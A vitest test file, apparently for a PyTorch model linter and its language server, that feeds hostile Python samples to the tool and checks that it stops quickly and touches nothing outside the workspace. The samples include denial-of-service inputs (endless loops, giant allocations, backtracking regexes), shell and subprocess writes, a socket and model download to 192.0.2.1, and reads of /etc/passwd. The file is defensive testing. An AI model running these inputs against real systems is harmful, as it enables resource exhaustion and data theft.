// Code that means harm, through the shipped command and server: it ends within a second, the reader is told that tracking
// stopped, and nothing is touched but the files of the workspace: no other file, no network, no process.
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, sep } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { LspSession, SERVER } from './session.ts';

const root = fileURLToPath(new URL('../../', import.meta.url));
const CLI = process.env.CONVLINT_CLI ?? join(root, 'dist/cli.js');
const WATCH = join(root, 'test/harness/watch-outside.cjs');
const SECOND = 1000;

/** What stands in `forward` between a convolution and the end; `y` is asked for afterwards. */
const IN_FORWARD: Readonly<Record<string, string>> = {
  'deep recursion': 'f = lambda n: f(n + 1)\ny = f(0)',
  'deep recursion of the model': 'y = self(x)',
  'giant range': 'y = sum(list(range(10 ** 12)))',
  'giant range without a list': 'y = sum(i * i for i in range(10 ** 15))',
  'endless loop': 'y = 0\nwhile True: y += 1',
  'endless layers': 'while True: x = self.conv(x)\ny = 1',
  'exponential comprehension': 'y = len([0 for a in range(999) for b in range(999) for c in range(999)])',
  'exponential calls': 'def f(n): return f(n - 1) + f(n - 1) if n else 1\ny = f(80)',
  'giant power': 'y = 10 ** 10 ** 10',
  'giant shift': 'y = 1 << 10 ** 12',
  'giant string': 'y = len("a" * 10 ** 12)',
  'growing string': 'y = "a"\nfor i in range(200): y += y\ny = len(y)',
  'growing list': 'y = [1]\nfor i in range(200): y = y + y\ny = len(y)',
  'wide format': 'y = len(f"{1:>1000000000000}")',
  'nested f-strings': 'y = "{}"\nfor i in range(200): y = f"{y!r:>{10 ** 9}}{f\'{y}\'}"\ny = len(y)',
  'regular expression that backtracks': 'import re\ny = re.match(r"(a+)+$", "a" * 64 + "b").end()',
  'regular expression that repeats': 'import re\ny = re.match(r"(((((x*)*)*)*)*)*y", "x" * 60).end()',
  'giant tensor': 'y = torch.arange(10 ** 12).tolist()[0]',
  'giant axes': 'x = x.view(*[1] * 10 ** 9)\ny = 1',
  'giant stack of layers': 'y = nn.Sequential(*[nn.Conv2d(8, 8, 1) for i in range(10 ** 8)])(x)',
  'unknown branches': 'for i in range(10 ** 5):\n    if x.sum() > i: x = x + 1\ny = x.nope.size(0)',
};

/** Whole files; each has a class `Net`. */
const FILES: Readonly<Record<string, string>> = {
  'metaclass that calls itself':
    'class M(type):\n    def __call__(cls, *a): return cls(*a)\nclass Net(nn.Module, metaclass=M):\n    def forward(self, x): return x\n',
  'attributes without end':
    'class Net(nn.Module):\n    def __getattr__(self, n): return getattr(self, n + "x")\n    def forward(self, x): return self.y(x)\n',
  'classes without end':
    'class Net(nn.Module):\n    def forward(self, x): return x\nfor i in range(10 ** 6):\n    Net = type("Net", (Net,), {})\n',
  'module that holds itself':
    'class Net(nn.Module):\n    def __init__(self):\n        super().__init__()\n        self.conv = nn.Conv2d(3, 8, 3)\n        self.me = self\n    def forward(self, x): return self.conv(x)\n',
  'deep parentheses': `class Net(nn.Module):\n    def forward(self, x): return ${'('.repeat(20_000)}x${')'.repeat(20_000)}\n`,
  'deep calls': `class Net(nn.Module):\n    def forward(self, x): return ${'torch.relu('.repeat(3000)}x${')'.repeat(3000)}\n`,
  'runs and writes':
    'import os, subprocess, socket, shutil\nos.system("touch OWNED")\nsubprocess.run(["touch", "OWNED"])\nopen("OWNED", "w").write("x")\nsocket.create_connection(("192.0.2.1", 80))\nexec("import os")\neval("1")\nclass Net(nn.Module):\n    def forward(self, x):\n        torch.load("/etc/passwd")\n        torch.hub.load_state_dict_from_url("http://192.0.2.1/x")\n        return x + len(open("/etc/passwd").read())\n',
  'import of files outside':
    'import sys\nsys.path.insert(0, "/etc")\nfrom ....................outside import secret\nfrom .. import outside\nimport outside\nimport etc.passwd\n__import__("outside")\nimport importlib\nimportlib.import_module("outside")\nclass Net(nn.Module):\n    def forward(self, x): return x + secret\n',
  'imports in a circle': 'from .circle_a import A\nclass Net(A):\n    pass\n',
  'import of itself':
    'import importlib\nwhile True: importlib.reload(importlib)\nclass Net(nn.Module):\n    def forward(self, x): return x\n',
};

const HEAD = 'import torch\nfrom torch import nn\n\n';
const model = (code: string) =>
  `${HEAD}# convlint: input=3x32x32\nclass Net(nn.Module):\n    def __init__(self):\n        super().__init__()\n        self.conv = nn.Conv2d(3, 8, 3, padding=1)\n\n    def forward(self, x):\n        x = self.conv(x)\n${code.replace(/^/gm, '        ')}\n        return x.view(y, -1)\n`;

const CASES: readonly (readonly [name: string, text: string, stops: boolean])[] = [
  ...Object.entries(IN_FORWARD).map(([name, code]) => [name, model(code), true] as const),
  ...Object.entries(FILES).map(([name, text]) => [name, HEAD + text, false] as const),
];

let above = '';
let folder = '';
const pathOf = (name: string) => join(folder, `${name.replace(/\W+/g, '_')}.py`);

beforeAll(() => {
  above = realpathSync(mkdtempSync(join(tmpdir(), 'convlint-hostile-')));
  folder = join(above, 'workspace');
  mkdirSync(folder);
  writeFileSync(join(above, 'outside.py'), 'secret = 1\n');
  writeFileSync(join(above, '__init__.py'), '');
  writeFileSync(
    join(folder, 'plain.cnn.yaml'),
    'model: Plain\ninput: 7x7x3\nlayers:\n  - conv: { filters: 8, kernel: 3 }\n',
  );
  for (const [name, text] of CASES) writeFileSync(pathOf(name), text);
  writeFileSync(join(folder, 'circle_a.py'), `${HEAD}from .circle_b import B\nclass A(B): pass\n`);
  writeFileSync(join(folder, 'circle_b.py'), `${HEAD}from .circle_a import A\nclass B(A): pass\n`);
});
afterAll(() => rmSync(above, { recursive: true, force: true }));

function check(path: string) {
  const log = join(above, 'cli.log');
  const before = existsSync(log) ? readFileSync(log, 'utf8').length : 0;
  const env = { PATH: process.env.PATH, LANG: 'C', CONVLINT_WATCH: log };
  const { status, stdout, stderr } = spawnSync(process.execPath, ['--require', WATCH, CLI, 'check', path], {
    cwd: folder,
    env,
    encoding: 'utf8',
    timeout: 15_000,
  });
  // The time that it computed: other work of the machine is not its doing.
  const time = Number(/^time (\S+)$/m.exec(readFileSync(log, 'utf8').slice(before))?.[1]);
  return { status, output: stdout + stderr, time };
}

/** Everything that the log tells of but what the program itself and the workspace hold. */
function strays(log: string, programs: readonly string[]): readonly string[] {
  const mine = [...programs.map((program) => dirname(dirname(realpathSync(program)))), folder, above];
  return [...new Set(readFileSync(join(above, log), 'utf8').split('\n'))].filter((line) => {
    const [, kind, what = ''] = /^(\w+) (.*)$/.exec(line) ?? [];
    if (kind === undefined || kind === 'time') return false;
    // V8's own collector has no other name.
    if (line === 'process runInNewContext gc') return false;
    if (kind !== 'file') return true;
    if (what.startsWith('descriptor ')) return false;
    // Where settings and ignore files may lie above: only those names are looked for.
    if (/[\\/](?:convlint\.yaml|\.gitignore|\.git|\.convlintignore|info[\\/]exclude)$/.test(what)) return false;
    // Whether the folder above belongs to the same package is asked; what it holds is not read.
    if (what === join(above, '__init__.py')) return false;
    if (what === folder) return false;
    return !mine.some((place) => what.startsWith(place + sep) && (place !== above || what.startsWith(folder + sep)));
  });
}

describe('the command', () => {
  test.each(CASES)('%s', { retry: 2, timeout: 20_000 }, (name, _, stops) => {
    const { status, output, time } = check(pathOf(name));
    expect(status, output).toBeLessThan(2);
    if (stops) expect(output).toMatch(/tracking stopped|error|warning/);
    // Starting Node is not the code's doing.
    expect(time).toBeLessThan(SECOND + startOfNode());
  });

  test('touches nothing outside', () => {
    check(pathOf('runs and writes'));
    check(pathOf('import of files outside'));
    expect(strays('cli.log', [CLI])).toEqual([]);
  });
});

let started: number | undefined;
function startOfNode(): number {
  started ??= check(join(folder, 'plain.cnn.yaml')).time;
  return started;
}

/** The milliseconds that a process has computed, where Linux tells; elsewhere the clock's. */
function computed(pid: number | undefined): number {
  try {
    const fields = readFileSync(`/proc/${pid}/stat`, 'utf8')
      .replace(/^.*\) /, '')
      .split(' ');
    return (Number(fields[11]) + Number(fields[12])) * 10;
  } catch {
    return performance.now();
  }
}

describe('the server', () => {
  let session: LspSession;
  beforeAll(async () => {
    session = await LspSession.start({
      folders: [pathToFileURL(folder).href],
      settings: () => ({ diagnostics: { delay: 0 } }),
      watch: { preload: WATCH, log: join(above, 'server.log') },
    });
  });
  afterAll(() => session.kill());

  test.each(CASES)('%s', { retry: 2, timeout: 20_000 }, async (name, text) => {
    const uri = pathToFileURL(pathOf(name)).href;
    const start = computed(session.pid);
    await session.open(uri, `${text}# ${start}\n`, 'python');
    await session.diagnostics(uri);
    const time = computed(session.pid) - start;
    await session.close(uri);
    expect(time).toBeLessThan(SECOND);
  });

  test('touches nothing outside', () => {
    expect(strays('server.log', [SERVER])).toEqual([]);
  });
});
